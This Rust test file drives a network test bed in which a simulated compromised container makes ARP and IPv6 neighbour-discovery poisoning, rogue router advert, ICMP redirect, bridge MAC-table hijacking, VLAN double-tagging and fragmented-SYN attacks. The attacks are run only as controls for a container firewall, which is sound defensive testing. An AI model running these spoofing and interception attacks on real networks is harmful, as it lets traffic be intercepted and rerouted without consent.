//! Positive controls of the attack toolkit: on the bed with NO firewall,
//! every attack a compromised container (CAP_NET_RAW) can make on a plain
//! Linux bridge does what it claims. A firewall test that later finds the
//! same attack stopped therefore proves the firewall stopped it, not a
//! malformed frame or a kernel default.
//!
//! The attacker is always backend1 (`eth0`); victims are backend2, the
//! proxy and the host. Each test builds its own bed (deleted on drop) and
//! waits only until the effect shows (at most [`WAIT`]), so each takes
//! about a second, most of it building the bed. Run as root; nothing is
//! skipped.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, UdpSocket};
use std::time::Duration;

use trafficjam_testbed::attack::{self, ethertype, ArpOp, Mac, PrefixInfo, Tag};
use trafficjam_testbed::capture::Capture;
use trafficjam_testbed::frame::mac_of;
use trafficjam_testbed::listener::{TCP_PORT, UDP_PORT};
use trafficjam_testbed::observe::{self, wait_until, UdpSink};
use trafficjam_testbed::{addr, ip, probe, Listener, Netns, Testbed};

/// How long any single effect may take to show.
const WAIT: Duration = Duration::from_secs(2);

/// The bed and the MACs of the three containers on br-m.
struct Bed {
    bed: Testbed,
    b1: Mac,
    b2: Mac,
    proxy: Mac,
}

fn bed() -> Bed {
    trafficjam_testbed::require_root();
    let bed = Testbed::build().expect("build the test bed");
    let b1 = mac_of(&bed.backend1, "eth0").unwrap();
    let b2 = mac_of(&bed.backend2, "eth0").unwrap();
    let proxy = mac_of(&bed.proxy, "eth0").unwrap();
    Bed { bed, b1, b2, proxy }
}

fn v4(s: &str) -> Ipv4Addr {
    s.parse().unwrap()
}

fn v6(s: &str) -> Ipv6Addr {
    s.parse().unwrap()
}

/// Send from the attacker, backend1's eth0.
fn attack(b: &Bed, frames: &[Vec<u8>]) {
    attack::send(&b.bed.backend1, "eth0", frames).expect("send forged frames");
}

/// Wait until `ns` has `ip` on `ifname` at `mac`; panic with its whole
/// table otherwise.
fn assert_neighbour(ns: &Netns, ifname: &str, ip: IpAddr, mac: Mac, what: &str) {
    let ok = wait_until(WAIT, || {
        observe::neighbour_mac(ns, ifname, ip).ok().flatten() == Some(mac)
    });
    assert!(
        ok,
        "{what}: {} has no {ip} at {}: {:?}",
        ns.name(),
        observe::format_mac(mac),
        observe::neighbours(ns, ifname)
    );
}

/// Make backend2 and the host learn the proxy's real address `to` (a TCP
/// handshake resolves it), so poisoning has an entry to override.
fn learn_proxy(b: &Bed, to: &str) -> Listener {
    let listener = Listener::start(&b.bed.proxy).unwrap();
    for (ns, ifname) in [(&b.bed.backend2, "eth0"), (&b.bed.host, "br-m")] {
        assert!(
            probe::tcp_connect(ns, ip(to), WAIT),
            "{} cannot reach the proxy at {to}",
            ns.name()
        );
        assert_neighbour(ns, ifname, ip(to), b.proxy, "control: real proxy MAC");
    }
    listener
}

// --- ARP and neighbour-discovery poisoning ---------------------------------

fn gratuitous_arp_overrides(op: ArpOp) {
    let b = bed();
    let _proxy = learn_proxy(&b, addr::PROXY4);
    attack(&b, &[attack::gratuitous_arp(b.b1, v4(addr::PROXY4), op)]);
    assert_neighbour(&b.bed.backend2, "eth0", ip(addr::PROXY4), b.b1, "garp");
    assert_neighbour(&b.bed.host, "br-m", ip(addr::PROXY4), b.b1, "garp");
}

/// A gratuitous ARP request for the proxy's address overrides the entry
/// backend2 and the host already have (with the default `arp_accept=0` it
/// would create none, which is why the entry is learned first).
#[test]
fn gratuitous_arp_request_overrides_known_neighbours() {
    gratuitous_arp_overrides(ArpOp::Request);
}

/// The reply form of a gratuitous ARP (`tha == sha`) does the same.
#[test]
fn gratuitous_arp_reply_overrides_known_neighbours() {
    gratuitous_arp_overrides(ArpOp::Reply);
}

/// An ARP request addressed to backend2 "from" the proxy's address plants
/// an entry in a cold cache (no `arp_accept` needed), and backend2's next
/// datagram for the proxy goes to backend1: interception.
#[test]
fn arp_request_to_the_victim_plants_an_entry_and_intercepts() {
    let b = bed();
    let cap = Capture::start(&b.bed.backend1, "eth0").unwrap();
    let spa = v4(addr::PROXY4);
    attack(
        &b,
        &[attack::arp(
            b.b1,
            b.b2,
            ArpOp::Request,
            b.b1,
            spa,
            [0; 6],
            v4(addr::B2_4),
        )],
    );
    assert_neighbour(&b.bed.backend2, "eth0", spa.into(), b.b1, "arp request");
    b.bed
        .backend2
        .run(move || {
            let s = UdpSocket::bind("0.0.0.0:0").unwrap();
            s.send_to(b"tj-intercepted-v4", (spa, UDP_PORT)).unwrap();
        })
        .unwrap();
    assert!(
        cap.wait_for(WAIT, |f| f.incoming()
            && f.dst_mac() == Some(b.b1)
            && f.ip().is_some_and(|p| p.dst == IpAddr::V4(spa))
            && f.contains(b"tj-intercepted-v4")),
        "backend2's datagram for the proxy did not reach backend1"
    );
}

/// An unsolicited NA (O flag, to all nodes) for the proxy's IPv6 address
/// overrides the entry backend2 and the host have (Linux ignores one for an
/// address it has no entry for, unless `accept_untracked_na`).
#[test]
fn unsolicited_na_overrides_known_neighbours() {
    let b = bed();
    let _proxy = learn_proxy(&b, addr::PROXY6);
    let target = v6(addr::PROXY6);
    attack(&b, &[attack::unsolicited_na(b.b1, target, target)]);
    assert_neighbour(&b.bed.backend2, "eth0", target.into(), b.b1, "NA");
    assert_neighbour(&b.bed.host, "br-m", target.into(), b.b1, "NA");
}

/// A neighbour solicitation for backend2's address "from" the proxy's,
/// with backend1's MAC as source link-layer address, plants the entry in
/// backend2's cold cache: the IPv6 counterpart of the targeted ARP.
#[test]
fn spoofed_neighbour_solicitation_plants_an_entry() {
    let b = bed();
    let (group, group_mac) = attack::solicited_node(v6(addr::B2_6));
    let src = v6(addr::PROXY6);
    attack(
        &b,
        &[attack::neighbor_solicit(
            b.b1,
            group_mac,
            src,
            group,
            v6(addr::B2_6),
            Some(b.b1),
        )],
    );
    assert_neighbour(&b.bed.backend2, "eth0", src.into(), b.b1, "NS");
}

/// A DAD probe (NS from `::`) for an address backend2 is still checking
/// makes backend2 give it up (`dadfailed`). The bed turns DAD off, so this
/// test turns it back on for backend2's eth0.
#[test]
fn dad_probe_denies_a_tentative_address() {
    let b = bed();
    let victim = &b.bed.backend2;
    victim.sysctl("net.ipv6.conf.eth0.accept_dad", "1").unwrap();
    let new = v6("fd77:1::99");
    victim
        .ip(&["addr", "add", "fd77:1::99/64", "dev", "eth0"])
        .unwrap();
    let flags = |ns: &Netns| {
        observe::addresses(ns, "eth0")
            .unwrap()
            .into_iter()
            .find(|a| a.ip == IpAddr::V6(new))
            .map(|a| a.flags)
            .unwrap_or_default()
    };
    assert!(
        flags(victim).iter().any(|f| f == "tentative"),
        "control: the new address is not tentative: {:?}",
        flags(victim)
    );
    // Probe again on every poll: the victim joins the solicited-node group
    // from its DAD work, which may lag the address by a moment.
    let ok = wait_until(WAIT, || {
        attack(&b, &[attack::dad_probe(b.b1, new)]);
        flags(victim).iter().any(|f| f == "dadfailed")
    });
    assert!(ok, "address survived the DAD probe: {:?}", flags(victim));
}

// --- Rogue routers and redirects -------------------------------------------

/// A router advertisement from backend1's link-local address gives
/// backend2 a default route via backend1, and an address in the rogue
/// prefix (SLAAC).
#[test]
fn rogue_router_advert_installs_default_route_and_address() {
    let b = bed();
    let victim = &b.bed.backend2;
    // The bed leaves accept_ra alone (1 by default) and backend2 does not
    // forward IPv6; set both anyway so the test does not rest on defaults.
    victim.sysctl("net.ipv6.conf.eth0.forwarding", "0").unwrap();
    victim.sysctl("net.ipv6.conf.eth0.accept_ra", "2").unwrap();
    let b1_ll = observe::link_local(&b.bed.backend1, "eth0").unwrap();
    assert_eq!(b1_ll, attack::eui64_link_local(b.b1), "EUI-64 link-local");
    let before = observe::default_routes_v6(victim).unwrap();
    assert!(
        before.iter().all(|r| r.gateway != Some(b1_ll.into())),
        "{before:?}"
    );
    let all_nodes = attack::multicast_mac(v6("ff02::1").into()).unwrap();
    let prefix = PrefixInfo {
        prefix: v6("2001:db8:bad::"),
        len: 64,
        on_link: true,
        autonomous: true,
        valid: 600,
        preferred: 300,
    };
    attack(
        &b,
        &[attack::router_advert(
            b.b1,
            all_nodes,
            b1_ll,
            1800,
            Some(prefix),
        )],
    );
    let ok = wait_until(WAIT, || {
        observe::default_routes_v6(victim)
            .unwrap()
            .iter()
            .any(|r| r.gateway == Some(b1_ll.into()) && r.dev.as_deref() == Some("eth0"))
    });
    assert!(
        ok,
        "no default route via {b1_ll}: {:?}",
        observe::default_routes_v6(victim)
    );
    let ra = observe::default_routes_v6(victim).unwrap();
    assert!(
        ra.iter()
            .any(|r| r.gateway == Some(b1_ll.into()) && r.protocol.as_deref() == Some("ra")),
        "{ra:?}"
    );
    let slaac = attack::eui64_link_local(b.b2).octets();
    let mut want = prefix.prefix.octets();
    want[8..].copy_from_slice(&slaac[8..]);
    let want = IpAddr::V6(Ipv6Addr::from(want));
    let ok = wait_until(WAIT, || {
        observe::addresses(victim, "eth0")
            .unwrap()
            .iter()
            .any(|a| a.ip == want)
    });
    assert!(
        ok,
        "no SLAAC address {want}: {:?}",
        observe::addresses(victim, "eth0")
    );
}

/// An ICMP redirect "from" backend2's gateway (spoofed) sends its traffic
/// for the outside via backend1. Linux installs it only once it has a
/// valid neighbour entry for the new gateway, which an ARP request from
/// backend1 provides.
///
/// A namespace copies the IPv4 settings of the initial one, so on a host
/// that forwards (as every Docker host does) the containers forward too,
/// and a forwarding interface ignores redirects (`all.accept_redirects` is
/// 0 then). The victim here is made a plain host first, as a container
/// created with `net.ipv4.ip_forward=0` would be.
#[test]
fn icmp4_redirect_reroutes_a_non_forwarding_victim() {
    let b = bed();
    let victim = &b.bed.backend2;
    // Turning forwarding off also sets all.accept_redirects back to 1.
    victim.sysctl("net.ipv4.ip_forward", "0").unwrap();
    let outside = ip(addr::OUTSIDE4);
    let before = observe::route_get(victim, outside).unwrap();
    assert_eq!(before.gateway, Some(ip(addr::GW4)), "control: {before:?}");
    let (b1, b2) = (v4(addr::B1_4), v4(addr::B2_4));
    attack(
        &b,
        &[
            attack::arp(b.b1, b.b2, ArpOp::Request, b.b1, b1, [0; 6], b2),
            attack::icmp4_redirect(b.b1, b.b2, v4(addr::GW4), b2, b1, v4(addr::OUTSIDE4)),
        ],
    );
    let ok = wait_until(WAIT, || {
        observe::route_get(victim, outside).unwrap().gateway == Some(b1.into())
    });
    assert!(
        ok,
        "route to {outside} not redirected: {:?}",
        observe::route_get(victim, outside)
    );
}

/// An ICMPv6 redirect "from" the host's link-local address sends
/// backend2's traffic for the outside via backend1's link-local address.
///
/// Linux accepts a redirect only from the link-local address that is the
/// current next hop. The bed's containers route via the gateway's global
/// address (as Docker's do), so there a redirect is ignored whatever it
/// says; this test gives backend2 the common link-local default gateway
/// instead, where the attack works.
#[test]
fn icmpv6_redirect_reroutes_the_victim_with_a_link_local_gateway() {
    let b = bed();
    let victim = &b.bed.backend2;
    let host_ll = observe::link_local(&b.bed.host, "br-m").unwrap();
    let b1_ll = observe::link_local(&b.bed.backend1, "eth0").unwrap();
    victim
        .ip(&[
            "-6",
            "route",
            "replace",
            "default",
            "via",
            &host_ll.to_string(),
            "dev",
            "eth0",
        ])
        .unwrap();
    let outside = ip(addr::OUTSIDE6);
    let before = observe::route_get(victim, outside).unwrap();
    assert_eq!(before.gateway, Some(host_ll.into()), "control: {before:?}");
    attack(
        &b,
        &[attack::icmpv6_redirect(
            b.b1,
            b.b2,
            host_ll,
            v6(addr::B2_6),
            b1_ll,
            v6(addr::OUTSIDE6),
            Some(b.b1),
        )],
    );
    let ok = wait_until(WAIT, || {
        observe::route_get(victim, outside).unwrap().gateway == Some(b1_ll.into())
    });
    assert!(
        ok,
        "route to {outside} not redirected: {:?}",
        observe::route_get(victim, outside)
    );
}

// --- Layer 2: the bridge's forwarding database, tags, ethertypes -----------

/// Frames from backend1 with the proxy's MAC as source move the host
/// bridge's entry for that MAC to backend1's port, and frames for the
/// proxy then go to backend1 instead.
#[test]
fn forged_source_mac_moves_the_fdb_entry_and_intercepts() {
    let b = bed();
    let h = &b.bed.host;
    let hello = |src: Mac, marker: &[u8]| {
        attack::ethertype_frame(
            src,
            attack::BROADCAST,
            ethertype::LOCAL_EXPERIMENTAL,
            marker,
        )
    };
    attack::send(&b.bed.proxy, "eth0", &[hello(b.proxy, b"tj-real-proxy")]).unwrap();
    assert!(
        wait_until(WAIT, || observe::fdb_port(h, "br-m", b.proxy)
            .unwrap()
            .as_deref()
            == Some("vproxy")),
        "control: proxy MAC not learned on vproxy: {:?}",
        observe::fdb(h, "br-m")
    );
    attack(&b, &[hello(b.proxy, b"tj-forged-proxy")]);
    assert!(
        wait_until(WAIT, || observe::fdb_port(h, "br-m", b.proxy)
            .unwrap()
            .as_deref()
            == Some("vb1")),
        "proxy MAC not moved to vb1: {:?}",
        observe::fdb(h, "br-m")
    );
    // Now a frame for the proxy's MAC reaches backend1, and not the proxy.
    let at_b1 = Capture::start(&b.bed.backend1, "eth0").unwrap();
    let at_proxy = Capture::start(&b.bed.proxy, "eth0").unwrap();
    let marker = b"tj-for-the-proxy";
    let f = attack::udp_to(
        b.b2,
        b.proxy,
        ip(addr::B2_4),
        ip(addr::PROXY4),
        attack::fresh_port(),
        UDP_PORT,
        marker,
    );
    attack::send(&b.bed.backend2, "eth0", &[f]).unwrap();
    assert!(
        at_b1.wait_for(WAIT, |f| f.incoming() && f.contains(marker)),
        "frame for the proxy did not reach backend1"
    );
    assert!(!at_proxy.contains(marker), "the bridge still flooded it");
}

/// Single, double (802.1Q in 802.1Q), triple, QinQ (802.1ad outer) and
/// priority-tagged (VID 0) frames all cross the bridge to backend2, tags
/// intact; the capture reports the outer tag it got from the kernel.
#[test]
fn vlan_tagged_frames_cross_the_bridge() {
    let b = bed();
    let cap = Capture::start(&b.bed.backend2, "eth0").unwrap();
    let inner =
        |marker: &[u8]| attack::ethertype_frame(b.b1, b.b2, ethertype::LOCAL_EXPERIMENTAL, marker);
    let cases: Vec<(&[u8], Vec<u8>, Tag)> = vec![
        (
            b"tj-vlan-1",
            attack::vlan_tagged(inner(b"tj-vlan-1"), &[100]),
            Tag::c(100),
        ),
        (
            b"tj-vlan-2",
            attack::vlan_tagged(inner(b"tj-vlan-2"), &[100, 200]),
            Tag::c(100),
        ),
        (
            b"tj-vlan-3",
            attack::vlan_tagged(inner(b"tj-vlan-3"), &[1, 2, 3]),
            Tag::c(1),
        ),
        (
            b"tj-vlan-q",
            attack::qinq_tagged(inner(b"tj-vlan-q"), 10, &[20]),
            Tag::s(10),
        ),
        (
            b"tj-vlan-0",
            attack::vlan_tagged(inner(b"tj-vlan-0"), &[0]),
            Tag::c(0),
        ),
    ];
    let frames: Vec<Vec<u8>> = cases.iter().map(|(_, f, _)| f.clone()).collect();
    attack(&b, &frames);
    for (marker, sent, outer) in &cases {
        let name = String::from_utf8_lossy(marker);
        assert!(
            cap.wait_for(WAIT, |f| f.incoming() && f.contains(marker)),
            "{name} did not arrive"
        );
        let got = cap.incoming_with(marker).remove(0);
        let tag = got.vlan.expect("the outer tag in PACKET_AUXDATA");
        assert_eq!(
            (tag.tpid, tag.vid()),
            (outer.tpid, outer.vid),
            "{name}: outer tag"
        );
        assert_eq!(&got.wire(), sent, "{name}: not as sent");
    }
}

/// An IP datagram inside a priority tag (VID 0), or even two (0 in 0),
/// reaches backend2's UDP listener: Linux strips VID-0 tags and processes
/// the packet as untagged. (With a real VID and no VLAN interface it is
/// dropped by the receiver's stack; only a capture sees it.)
#[test]
fn priority_tagged_ip_reaches_the_listener() {
    let b = bed();
    let listener = Listener::start(&b.bed.backend2).unwrap();
    let cases: [(&str, &str, &str, &[u16]); 3] = [
        ("v4 in 0", addr::B1_4, addr::B2_4, &[0]),
        ("v4 in 0/0", addr::B1_4, addr::B2_4, &[0, 0]),
        ("v6 in 0", addr::B1_6, addr::B2_6, &[0]),
    ];
    for (what, src, dst, vids) in cases {
        let before = listener.arrivals().count_from(ip(src));
        let f = attack::udp_to(
            b.b1,
            b.b2,
            ip(src),
            ip(dst),
            attack::fresh_port(),
            UDP_PORT,
            b"tj-prio",
        );
        attack(&b, &[attack::vlan_tagged(f, vids)]);
        assert!(
            wait_until(WAIT, || listener.arrivals().count_from(ip(src)) > before),
            "{what}: the datagram did not reach the listener: {:?}",
            listener.arrivals()
        );
    }
}

/// Frames of other ethertypes cross the bridge to backend2: local
/// experimental 0x88b5, Wake-on-LAN 0x0842 (broadcast), LLDP 0x88cc (to a
/// unicast MAC), an 802.3/LLC frame (length field), and an STP-style
/// LLC frame to the bridge group address 01:80:c2:00:00:00, which a Linux
/// bridge with STP off floods.
#[test]
fn other_ethertypes_cross_the_bridge() {
    let b = bed();
    let cap = Capture::start(&b.bed.backend2, "eth0").unwrap();
    let cases: Vec<(&[u8], Vec<u8>)> = vec![
        (
            b"tj-88b5",
            attack::ethertype_frame(b.b1, b.b2, ethertype::LOCAL_EXPERIMENTAL, b"tj-88b5"),
        ),
        (b"tj-wol", attack::wake_on_lan(b.b1, b.b2, b"tj-wol")),
        (b"tj-lldp", attack::lldp(b.b1, b.b2, b"tj-lldp")),
        (
            b"tj-llc",
            attack::llc_frame(b.b1, b.b2, 0xaa, 0xaa, 0x03, b"tj-llc"),
        ),
        (
            b"tj-stp",
            attack::llc_frame(b.b1, attack::STP_GROUP, 0x42, 0x42, 0x03, b"tj-stp"),
        ),
    ];
    let frames: Vec<Vec<u8>> = cases.iter().map(|(_, f)| f.clone()).collect();
    attack(&b, &frames);
    for (marker, sent) in &cases {
        let name = String::from_utf8_lossy(marker);
        assert!(
            cap.wait_for(WAIT, |f| f.incoming() && f.contains(marker)),
            "{name} did not arrive"
        );
        assert_eq!(
            &cap.incoming_with(marker)[0].data,
            sent,
            "{name}: not as sent"
        );
    }
}

// --- Broadcast, multicast and link-local IP --------------------------------

/// UDP to the limited and the subnet broadcast, to `ff02::1` and to
/// backend2's `fe80::` address reaches backend2's UDP listener.
#[test]
fn broadcast_multicast_and_link_local_udp_reach_the_listener() {
    let b = bed();
    let listener = Listener::start(&b.bed.backend2).unwrap();
    let b1_ll = IpAddr::V6(observe::link_local(&b.bed.backend1, "eth0").unwrap());
    let b2_ll = IpAddr::V6(observe::link_local(&b.bed.backend2, "eth0").unwrap());
    let b1_4 = ip(addr::B1_4);
    let cases: [(&str, IpAddr, IpAddr, Mac); 4] = [
        (
            "limited broadcast",
            b1_4,
            IpAddr::V4(Ipv4Addr::BROADCAST),
            attack::BROADCAST,
        ),
        (
            "subnet broadcast",
            b1_4,
            ip("10.77.1.255"),
            attack::BROADCAST,
        ),
        (
            "ff02::1",
            b1_ll,
            ip("ff02::1"),
            attack::multicast_mac(ip("ff02::1")).unwrap(),
        ),
        ("link-local unicast", b1_ll, b2_ll, b.b2),
    ];
    for (what, src, dst, dst_mac) in cases {
        let before = listener.arrivals().count_from(src);
        let f = attack::udp_to(
            b.b1,
            dst_mac,
            src,
            dst,
            attack::fresh_port(),
            UDP_PORT,
            b"tj-group",
        );
        attack(&b, &[f]);
        assert!(
            wait_until(WAIT, || listener.arrivals().count_from(src) > before),
            "{what}: the datagram did not reach the listener: {:?}",
            listener.arrivals()
        );
    }
}

/// UDP to the all-hosts group 224.0.0.1 reaches an IPv4 service of
/// backend2. (Not the bed's listener: its dual-stack `[::]` socket never
/// gets IPv4 multicast it has not joined; see [`UdpSink`].)
#[test]
fn all_hosts_multicast_udp_reaches_an_ipv4_service() {
    let b = bed();
    let port = 8091;
    let sink = UdpSink::start(&b.bed.backend2, (Ipv4Addr::UNSPECIFIED, port).into()).unwrap();
    let group = ip("224.0.0.1");
    let f = attack::udp_to(
        b.b1,
        attack::multicast_mac(group).unwrap(),
        ip(addr::B1_4),
        group,
        attack::fresh_port(),
        port,
        b"tj-all-hosts",
    );
    attack(&b, &[f]);
    let from = sink.wait_for(b"tj-all-hosts", WAIT).unwrap();
    assert_eq!(from.map(|a| a.ip()), Some(ip(addr::B1_4)), "not received");
}

/// backend1 completes a TCP handshake with a service of the host that
/// listens on the bridge's link-local address.
#[test]
fn host_service_on_the_bridge_link_local_address_is_reachable() {
    let b = bed();
    let listener = Listener::start(&b.bed.host).unwrap();
    let host_ll = observe::link_local(&b.bed.host, "br-m").unwrap();
    let b1_ll = observe::link_local(&b.bed.backend1, "eth0").unwrap();
    assert!(
        attack::tcp_connect_scoped(&b.bed.backend1, "eth0", host_ll, TCP_PORT, WAIT).unwrap(),
        "no handshake with [{host_ll}%eth0]:{TCP_PORT}"
    );
    assert!(
        wait_until(WAIT, || listener.arrivals().tcp.contains(&b1_ll.into())),
        "{:?}",
        listener.arrivals()
    );
}

// --- Forged and fragmented SYNs ---------------------------------------------

/// Forged SYNs, whole and fragmented, get a SYN-ACK from backend2's
/// listener (seen by a capture on backend1): over IPv4 the RFC 1858 tiny
/// fragment (flags only in the second fragment); over IPv6 a SYN whose
/// first fragment holds the fixed 20-byte TCP header and the options
/// follow.
#[test]
fn forged_and_fragmented_syns_get_a_syn_ack() {
    let b = bed();
    let _listener = Listener::start(&b.bed.backend2).unwrap();
    let cap = Capture::start(&b.bed.backend1, "eth0").unwrap();
    let (b1_4, b2_4) = (v4(addr::B1_4), v4(addr::B2_4));
    let (b1_6, b2_6) = (v6(addr::B1_6), v6(addr::B2_6));
    type Build<'a> = Box<dyn Fn(u16) -> Vec<Vec<u8>> + 'a>;
    let cases: Vec<(&str, IpAddr, Build)> = vec![
        (
            "v4 SYN",
            b2_4.into(),
            Box::new(|p| {
                vec![attack::tcp_syn(
                    b.b1,
                    b.b2,
                    b1_4.into(),
                    b2_4.into(),
                    p,
                    TCP_PORT,
                )]
            }),
        ),
        (
            "v6 SYN",
            b2_6.into(),
            Box::new(|p| {
                vec![attack::tcp_syn(
                    b.b1,
                    b.b2,
                    b1_6.into(),
                    b2_6.into(),
                    p,
                    TCP_PORT,
                )]
            }),
        ),
        (
            "v4 tiny-fragment SYN",
            b2_4.into(),
            Box::new(|p| attack::ipv4_fragments_tcp_syn(b.b1, b.b2, b1_4, b2_4, p, TCP_PORT)),
        ),
        (
            "v6 fragmented SYN (24 bytes first)",
            b2_6.into(),
            Box::new(|p| attack::ipv6_fragments_tcp_syn(b.b1, b.b2, b1_6, b2_6, p, TCP_PORT, 24)),
        ),
    ];
    for (what, from, build) in &cases {
        let port = attack::fresh_port();
        attack(&b, &build(port));
        assert!(
            wait_until(WAIT, || observe::syn_ack_seen(&cap, *from, port)),
            "{what}: no SYN-ACK from {from} to port {port}"
        );
    }
}

/// Not an attack that works: the IPv6 tiny fragment (only 8 bytes of TCP
/// in the first fragment) is dropped by the receiving kernel itself, which
/// answers ICMPv6 parameter problem code 3 (RFC 8200 4.5) instead of a
/// SYN-ACK. Kept as a test so that a kernel that starts accepting it is
/// noticed: then the firewall needs a rule for it.
#[test]
fn ipv6_tiny_fragment_syn_is_refused_by_the_kernel_itself() {
    let b = bed();
    let _listener = Listener::start(&b.bed.backend2).unwrap();
    let cap = Capture::start(&b.bed.backend1, "eth0").unwrap();
    let (b1_6, b2_6) = (v6(addr::B1_6), v6(addr::B2_6));
    let port = attack::fresh_port();
    attack(
        &b,
        &attack::ipv6_fragments_tcp_syn(b.b1, b.b2, b1_6, b2_6, port, TCP_PORT, 8),
    );
    let param_problem = |f: &trafficjam_testbed::capture::Captured| {
        f.incoming()
            && f.ip().is_some_and(|p| {
                p.protocol == attack::proto::ICMPV6
                    && p.src == IpAddr::V6(b2_6)
                    && p.payload.first() == Some(&4)
                    && p.payload.get(1) == Some(&3)
            })
    };
    assert!(
        cap.wait_for(WAIT, param_problem),
        "no parameter problem for the IPv6 tiny fragment"
    );
    assert!(
        !observe::syn_ack_seen(&cap, b2_6.into(), port),
        "the kernel now answers an IPv6 tiny-fragment SYN: the firewall must handle it"
    );
}
